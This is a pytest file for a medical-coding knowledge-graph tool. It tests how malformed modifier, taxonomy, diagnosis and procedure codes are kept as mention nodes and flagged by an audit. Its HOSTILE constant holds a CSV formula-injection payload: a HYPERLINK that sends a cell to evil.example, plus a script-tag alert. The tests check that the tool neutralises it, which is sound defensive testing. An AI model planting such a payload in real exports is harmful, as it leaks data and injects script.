"""A malformed code costs nothing but itself (issue 20): its row is kept as written and the audit reports it.

``tests/data/parser/malformed_codes.txt`` has a code of the wrong form in each table: ``2-6`` and ``Q#`` among
the modifiers, ``2O7L00000X`` (a letter O) and ``207X0000`` (too short) among the taxonomy codes, ``C2#.0``,
``R0.79`` (the dot one place early), ``47382`` (a CPT code) and a hostile ``=HYPERLINK(...)`` among the
diagnoses, ``77O13`` and ``C22.0`` among the procedures. The document builds; each row is a
``kg:MalformedMention`` with the code as written, its table, line and text, and no code node or edge is made of
it; ``kg audit`` reports each as ``unknown-code`` with its line and a did-you-mean where one exists.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pyoxigraph as ox
import pytest

from kg.audit import check, mentions
from kg.official import Official
from kg.parse import parse_file
from kg.store import open_store
from kg.to_rdf import briefing_quads

DATA = Path(__file__).parent / "data" / "parser"
SOURCE = DATA / "malformed_codes.txt"
NAME = "77013-malformed.txt"
HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"<script>alert(\'C22.0\')</script>")'

# line -> (table, code as written)
MALFORMED = {
    7: ("modifier", "2-6"), 8: ("modifier", "Q#"),
    13: ("taxonomy", "2O7L00000X"), 14: ("taxonomy", "207X0000"),
    19: ("diagnosis", "C2#.0"), 20: ("diagnosis", "R0.79"), 21: ("diagnosis", "47382"), 22: ("diagnosis", HOSTILE),
    27: ("procedure", "77O13"), 28: ("procedure", "C22.0"),
}
PREFIXES = ("PREFIX kg: <https://w3id.org/codekg/ontology#> PREFIX skos: <http://www.w3.org/2004/02/skos/core#> "
            "PREFIX prov: <http://www.w3.org/ns/prov#> ")


def select(store, query: str):
    """Rows of a SELECT over the union of the store's graphs."""
    return list(store.query(PREFIXES + query, use_default_graph_as_union=True))


def kg(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "kg", *map(str, args)], capture_output=True, text=True, timeout=600)


def test_the_parser_keeps_each_malformed_row_with_its_table_line_and_text():
    b = parse_file(SOURCE)
    assert {m.line: (m.table, m.written) for m in b.malformed} == MALFORMED
    assert [r.code for r in b.modifiers] == ["26"] and [r.code for r in b.taxonomies] == ["2085R0204X"]
    assert [r.code for r in b.diagnoses] == ["C22.0"] and [r.code for r in b.procedures] == ["47382"]
    typo = next(m for m in b.malformed if m.written == "77O13")
    assert (typo.description, typo.note) == ("CT guidance for ablation",
                                            "Ablation procedure that 77013 monitors, typed with a letter O.")
    assert typo.reason == "'77O13' is not a CPT or HCPCS code (77013, G0288)"
    assert tuple(b.row_counts) == (4, 0, 10) and b.unread_rows == ()


def test_in_rdf_a_malformed_row_is_a_mention_node_and_never_a_code_or_an_edge():
    b = parse_file(SOURCE)
    store = ox.Store()
    store.extend(briefing_quads(b))
    doc = "https://w3id.org/codekg/briefing/malformed_codes.txt"
    rows = {int(r["line"].value): (r["table"].value, r["written"].value, r["doc"].value) for r in select(
        store, "SELECT ?line ?table ?written ?doc WHERE { GRAPH ?g { ?m a kg:MalformedMention ; kg:line ?line ; "
        "kg:table ?table ; kg:writtenAs ?written ; prov:wasDerivedFrom ?doc } }")}
    assert rows == {line: (table, written, doc) for line, (table, written) in MALFORMED.items()}
    texts = {r["p"].value.rsplit("#", 1)[1]: r["o"].value for r in select(
        store, f"SELECT ?p ?o WHERE {{ <{doc}#L27> ?p ?o }}")}
    assert texts["description"] == "CT guidance for ablation" and "typed with a letter O" in texts["sourceText"]
    assert not {"subjectCode", "objectCode", "relation"} & set(texts)
    # no code node carries a malformed code, as written or normalised, and no row line of theirs is an edge
    notations = {r["n"].value for r in select(store, "SELECT ?n WHERE { ?c skos:notation ?n }")}
    assert {"26", "2085R0204X", "C22.0", "47382", "77013"} <= notations
    assert not notations & ({w for _, w in MALFORMED.values()} - {"C22.0", "47382"})  # those two: well-formed rows
    edge_lines = {int(r["line"].value) for r in select(
        store, "SELECT ?line WHERE { ?e a kg:AssertedRelation ; kg:line ?line }")}
    assert edge_lines == {6, 12, 18, 26} and not edge_lines & set(MALFORMED)
    assert not any("%" in q.subject.value or "%" in getattr(q.object, "value", "") for q in store
                   if isinstance(q.object, ox.NamedNode))  # no IRI minted from a malformed cell
    # C22.0 in the procedure table is not a procedure, but line 18 makes C22.0 a diagnosis code node
    kinds = {r["t"].value.rsplit("#", 1)[1] for r in select(
        store, "SELECT ?t WHERE { ?c skos:notation 'C22.0' ; a ?t FILTER(STRSTARTS(STR(?t), STR(kg:))) }")}
    assert kinds == {"DiagnosisCode"}


def test_the_audit_check_suggests_by_description_and_spelling_in_each_table():
    """On hand-made official labels: :func:`kg.audit.check` is pure."""
    b = parse_file(SOURCE)
    store = ox.Store()
    store.extend(briefing_quads(b))
    labels = {
        "MOD": {"26": ["Professional component"], "TC": ["Technical component"]},
        "NUCC": {"207L00000X": ["Anesthesiology Physician", "Anesthesiology"],
                 "2085R0204X": ["Vascular & Interventional Radiology"],
                 "207X00000X": ["Orthopaedic Surgery Physician", "Orthopaedic Surgery"]},
        "ICD10CM": {"C22.0": ["Liver cell carcinoma"], "R07.9": ["Chest pain, unspecified"]},
        "CPT": {"77013": [], "47382": []},
    }
    found = {f.line: f for f in check(mentions(store), Official(labels=labels, billable={}, fee_schedule=None))}
    assert set(found) == set(MALFORMED)  # the well-formed rows are fine: no false alarm
    assert {(f.kind, f.severity) for f in found.values()} == {("unknown-code", "error")}
    assert {line: f.code for line, f in found.items()} == {line: w for line, (_, w) in MALFORMED.items()}
    first = {line: f.suggestion.split(", ")[0] for line, f in found.items()}
    assert first[7] == "26" and first[13] == "207L00000X" and first[14] == "207X00000X"
    assert first[19] == "C22.0" and first[20] == "R07.9" and first[27] == "77013"
    assert found[21].system == "ICD-10-CM" and "shaped like a CPT code (diagnosis table)" in found[21].message
    assert found[28].system == "CPT/HCPCS" and "shaped like a ICD-10-CM code (procedure table)" in found[28].message
    assert found[19].message == ("C2#.0 is not a ICD-10-CM code: malformed, no ICD-10-CM code has that form "
                                 "(diagnosis table); did you mean C22.0?")
    assert found[19].briefing == "Liver cell carcinoma"


def test_with_no_code_set_loaded_a_malformed_code_is_still_reported_without_a_suggestion():
    store = ox.Store()
    store.extend(briefing_quads(parse_file(SOURCE)))
    found = check(mentions(store), Official(labels={}, billable={}, fee_schedule=None))
    assert sorted(f.line for f in found) == sorted(MALFORMED) and all(f.suggestion == "" for f in found)
    assert all("did you mean" not in f.message for f in found)


@pytest.fixture(scope="module")
def built(tmp_path_factory, audited_store_dir):
    """A copy of the store with every code set loaded, with the malformed briefing built into it by 'kg build'."""
    tmp = tmp_path_factory.mktemp("malformed")
    store = tmp / "store"
    shutil.copytree(audited_store_dir, store)
    folder = tmp / "in"
    folder.mkdir()
    shutil.copy(SOURCE, folder / NAME)
    r = kg("build", folder, "--keep-missing", "--store", store)
    return store, folder, r


def test_kg_build_builds_the_document_and_names_each_malformed_row_with_file_and_line(built):
    store, folder, r = built
    assert r.returncode == 0, r.stderr
    assert "built 1 new, 0 changed" in r.stdout and "0 failed" in r.stdout
    assert "4 read, 0 skipped (N/A), 10 reported (10 malformed code);" in r.stdout
    warnings = [line for line in r.stderr.splitlines() if line.startswith("kg: warning:")]
    assert len(warnings) == 10
    path = folder / NAME
    assert f"kg: warning: {path}:19: diagnosis table row kept as written, not as a code: 'C2#.0' is not an " \
           "ICD-10-CM code (C22.0)" in warnings
    assert f"kg: warning: {path}:27: procedure table row kept as written, not as a code: '77O13' is not a CPT " \
           "or HCPCS code (77013, G0288)" in warnings
    for line, (table, _) in MALFORMED.items():
        assert any(w.startswith(f"kg: warning: {path}:{line}: {table} table row kept as written") for w in warnings)


def test_kg_query_stats_counts_the_rows_kept_as_written(built):
    store, _, _ = built
    for args in ((), ("--recount",)):
        r = kg("query", "stats", "--format", "csv", *args, "--store", store)
        assert r.returncode == 0, r.stderr
        assert "nodes,MalformedMention,10" in r.stdout.splitlines(), (args, r.stdout)


def test_a_store_with_malformed_mentions_conforms_to_the_shapes_and_a_mention_with_an_edge_does_not():
    from kg.build import build
    from kg.shapes import validate

    store = ox.Store()
    assert build(store, SOURCE, progress=False).ok
    report = validate(store)
    assert report.conforms, report.text
    doc = "https://w3id.org/codekg/briefing/malformed_codes.txt"
    store.add(ox.Quad(ox.NamedNode(doc + "#L19"), ox.NamedNode("https://w3id.org/codekg/ontology#subjectCode"),
                      ox.NamedNode("http://purl.bioontology.org/ontology/CPT/77013"), ox.NamedNode(doc)))
    report = validate(store)
    assert not report.conforms and "a malformed mention names no code" in report.text


def test_kg_audit_reports_each_malformed_code_with_its_line_and_suggestion(built):
    store, _, _ = built
    r = kg("audit", "--format", "json", "--fail-on", "never", "--no-write", "--store", store)
    assert r.returncode == 0, r.stderr
    mine = {f["line"]: f for f in json.loads(r.stdout) if f["document"] == NAME}
    unknown = {line: f for line, f in mine.items() if f["kind"] == "unknown-code"}
    assert set(unknown) == set(MALFORMED)
    assert all(f["severity"] == "error" and f["code"] == MALFORMED[line][1] for line, f in unknown.items())
    assert unknown[19]["suggestion"].split(", ")[0] == "C22.0"  # by its description, from the loaded ICD-10-CM
    assert unknown[20]["suggestion"].split(", ")[0] == "R07.9"
    assert unknown[13]["suggestion"].split(", ")[0] == "207L00000X"  # the letter O read as a zero (NUCC loaded)
    assert unknown[27]["suggestion"].split(", ")[0] == "77013"  # the MPFS lists 77013
    assert unknown[22]["code"] == HOSTILE  # JSON shows the text unchanged


def test_the_findings_graph_and_the_csv_keep_a_hostile_code_as_a_formula_safe_literal(built):
    store, _, _ = built
    r = kg("audit", "--format", "csv", "--fail-on", "never", "--store", store)  # writes the audit graph
    assert r.returncode == 0, r.stderr
    rows = [row for row in csv.DictReader(io.StringIO(r.stdout)) if row["document"] == NAME]
    hostile = next(row for row in rows if row["line"] == "22")
    assert hostile["code"] == "'" + HOSTILE and hostile["message"].startswith("'" + HOSTILE)
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row.values() if cell)
    q = kg("query", "audit-findings", "--format", "csv", "--store", store)
    assert q.returncode == 0, q.stderr
    listed = [row for row in csv.DictReader(io.StringIO(q.stdout)) if row["file"] == NAME]
    assert {int(row["line"]) for row in listed if row["kind"] == "unknown-code"} >= set(MALFORMED)
    assert next(row for row in listed if row["line"] == "22")["code"] == "'" + HOSTILE
    s = open_store(store, read_only=True)
    written = {r["w"].value for r in s.query(
        PREFIXES + "SELECT ?w WHERE { GRAPH <https://w3id.org/codekg/audit> { ?f kg:writtenAs ?w ; kg:line 22 ; "
        "prov:wasDerivedFrom ?d FILTER(STRENDS(STR(?d), '77013-malformed.txt')) OPTIONAL { ?f kg:aboutCode ?c } "
        "FILTER(!BOUND(?c)) } }")}
    assert written == {HOSTILE}  # the literal as written, and no code IRI made of it
